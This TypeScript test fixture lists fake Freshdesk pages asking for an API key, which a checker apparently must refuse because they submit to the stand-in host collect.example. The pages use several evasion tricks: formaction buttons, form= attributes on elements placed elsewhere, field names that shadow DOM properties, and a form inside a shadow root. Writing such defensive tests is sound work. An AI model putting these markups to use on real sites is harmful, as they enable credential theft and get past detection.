import { form, type HostileForm, refused } from './hostile-form.ts';
import { html } from './markup.ts';
import { page, row } from './platform-page.ts';
import { shade } from './platform-script.ts';

/** Forms that would be sent to another site, in one of the ways of doing so. */
export const sentElsewhere: readonly HostileForm[] = [
  {
    ...refused('sent to another site', html``, 'to another site than'),
    page: form('https://collect.example/', html``),
  },
  {
    ...refused('sent to another site by its button', html``, 'to another site than'),
    page: form('/', html`<button formaction="https://collect.example/">Save</button>`),
  },
  ...[
    {
      name: 'sent to another site by the form that it belongs to',
      markup: html`<form><h1>Freshdesk</h1>${row('API key', 'key', undefined, html`form="out"`)}</form>
<form id="out" action="https://collect.example/"><input name="getAttribute"><input name="baseURI"><button>Save</button></form>`,
    },
    {
      name: 'sent to another site by a button elsewhere',
      markup: html`<form id="here"><h1>Freshdesk</h1>${row('API key', 'key')}</form>
<button form="here" formaction="https://collect.example/">Save</button>`,
    },
    {
      name: 'sent to another site by an image elsewhere',
      markup: html`<form id="here"><h1>Freshdesk</h1>${row('API key', 'key')}</form>
<input type="image" alt="Save" form="here" formaction="https://collect.example/">`,
    },
    {
      name: 'sent to another site by a button of the form that it belongs to',
      markup: html`<form><h1>Freshdesk</h1>${row('API key', 'key', undefined, html`form="out"`)}</form><form id="out"></form>
<input type="submit" form="out" formaction="https://collect.example/">`,
    },
    {
      name: 'sent to another site by a form whose fields are called as what it is asked for',
      markup: html`<form action="https://collect.example/"><h1>Freshdesk</h1>${row('API key', 'key')}
<input name="action" value="/"><input name="elements"><input name="getAttribute"><input name="querySelectorAll"></form>`,
    },
    {
      name: 'sent to another site out of a shadow root in a dialog',
      markup: html`<div role="dialog"><h1>Freshdesk</h1><shadow-part><template data-root><form action="https://collect.example/">${row('API key', 'key')}</form></template></shadow-part></div>`,
    },
  ].map(({ name, markup }) => ({
    ...refused(name, html``, 'to another site than'),
    page: page({ title: 'Freshdesk', body: markup, script: shade }),
  })),
];
